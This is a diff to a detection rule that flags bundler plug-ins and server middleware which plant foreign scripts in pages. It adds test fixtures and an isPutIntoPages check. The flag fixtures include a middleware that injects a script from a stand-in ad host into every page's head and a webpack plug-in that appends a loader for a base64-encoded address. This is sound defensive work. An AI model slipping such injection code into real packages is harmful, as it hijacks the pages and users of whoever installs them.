@@ -21,16 +21,17 @@ export default defineRule({
   examples: {
     flags: [
       {
+        title: 'what a server answers is given a script of somebody else',
+        files: {
+          'package.json': `{"name":"minify-lite","version":"1.0.0","main":"index.js"}`,
+          'index.js': `module.exports = () => (req, res, next) => {\n  const send = res.send;\n  res.send = function (body) { return send.call(this, String(body).replace(/\\s{2,}/g, ' ').replace('</head>', '<script async src="https://ads.castle.invalid/pop.js"></script></head>')); };\n  next();\n};`,
+        },
+      },
+      {
         title: 'a plug-in adds code to each bundle that loads a script from an encoded address',
         files: {
           'package.json': `{"name":"tidy-webpack-plugin","version":"1.0.0","main":"index.js"}`,
-          'index.js': `module.exports = class {
-  apply(compiler) {
-    compiler.hooks.emit.tap('tidy', ({ assets }) => {
-      for (const name in assets) assets[name] = new compiler.webpack.sources.RawSource(assets[name].source() + ';(function(d,s){s=d.createElement("script");s.src=atob("aHR0cHM6Ly9jZG4uaW52YWxpZC9jLmpz");d.body.append(s)})(document)');
-    });
-  }
-};`,
+          'index.js': `module.exports = class {\n  apply(compiler) {\n    compiler.hooks.emit.tap('tidy', ({ assets }) => {\n      for (const name in assets) assets[name] = new compiler.webpack.sources.RawSource(assets[name].source() + ';(function(d,s){s=d.createElement("script");s.src=atob("aHR0cHM6Ly9jZG4uaW52YWxpZC9jLmpz");d.body.append(s)})(document)');\n    });\n  }\n};`,
         },
       },
       {
@@ -64,16 +65,17 @@ export default defineRule({
     ],
     passes: [
       {
+        title: 'what a server answers is given the script that its owner names',
+        files: {
+          'package.json': `{"name":"minify-lite","version":"1.0.0","main":"index.js"}`,
+          'index.js': `module.exports = ({ script }) => (req, res, next) => {\n  const send = res.send;\n  res.send = function (body) { return send.call(this, String(body).replace('</head>', '<script async src="' + script + '"></script></head>')); };\n  next();\n};`,
+        },
+      },
+      {
         title: 'a plug-in adds code to each bundle that loads its chunks',
         files: {
           'package.json': `{"name":"tidy-webpack-plugin","version":"1.0.0","main":"index.js"}`,
-          'index.js': `module.exports = class {
-  apply(compiler) {
-    compiler.hooks.emit.tap('tidy', ({ assets }) => {
-      for (const name in assets) assets[name] = new compiler.webpack.sources.RawSource(assets[name].source() + ';(function(d,s){s=d.createElement("script");s.src=__webpack_public_path__+"c.js";d.body.append(s)})(document)');
-    });
-  }
-};`,
+          'index.js': `module.exports = class {\n  apply(compiler) {\n    compiler.hooks.emit.tap('tidy', ({ assets }) => {\n      for (const name in assets) assets[name] = new compiler.webpack.sources.RawSource(assets[name].source() + ';(function(d,s){s=d.createElement("script");s.src=__webpack_public_path__+"c.js";d.body.append(s)})(document)');\n    });\n  }\n};`,
         },
       },
       {
@@ -160,7 +162,7 @@ const VEILED =
 /** Scripts that a plug-in of a bundler writes into the pages and bundles of whoever uses it. */
 function planted(context: FileContext): void {
   const { file, moment } = context;
-  if (moment === 'test' || !ADDS.test(file.text)) return;
+  if (moment === 'test' || !(ADDS.test(file.text) || ENDS.test(file.text))) return;
   const texts = [...context.nodes('Literal'), ...context.nodes('TemplateElement')] as readonly AnyNode[];
   const veiled = VEILED.test(file.text)
     ? texts.find(node => VEILED.test(spelling(file, node).slice(0, 20_000)) && isInHook(context, node))
@@ -177,7 +179,7 @@ function planted(context: FileContext): void {
     const [, marked, made] = SCRIPT.exec(spelling(file, node).slice(0, 20_000)) ?? [];
     const address = marked ?? made;
     const host = address && foreignHost(context, `https://${address.replace(/^(?:https?:)?\/\//i, '')}/`);
-    if (!host || !isInHook(context, node)) continue;
+    if (!host || !(isInHook(context, node) || isPutIntoPages(context, node))) continue;
     context.report({
       messageId: 'planted',
       data: { host },
@@ -185,6 +187,23 @@ function planted(context: FileContext): void {
     });
     return;
   }
+}
+
+/** Where a page's head or body ends, as code looks for it to put something in. */
+const ENDS = /<\\?\/(?:head|body)>/i;
+
+/** `html.replace('</head>', '<script src=…></script></head>')`, of whatever page passes by. */
+function isPutIntoPages({ file, parentOf }: FileContext, node: AnyNode): boolean {
+  const call = parentOf(node.type === 'TemplateElement' ? ((parentOf(node) as AnyNode) ?? node) : node);
+  if (call?.type !== 'CallExpression') return false;
+  const { callee, arguments: args } = call as unknown as { callee: AnyNode; arguments: readonly AnyNode[] };
+  const [sought] = args;
+  return (
+    sought !== undefined &&
+    sought !== node &&
+    ENDS.test(spelling(file, sought).slice(0, 200)) &&
+    /\.replace(?:All)?$/.test(spelling(file, callee).slice(-20))
+  );
 }
 
 /** Whether a place is in a function that a bundler calls: a method by its name, or one that taps a hook. */
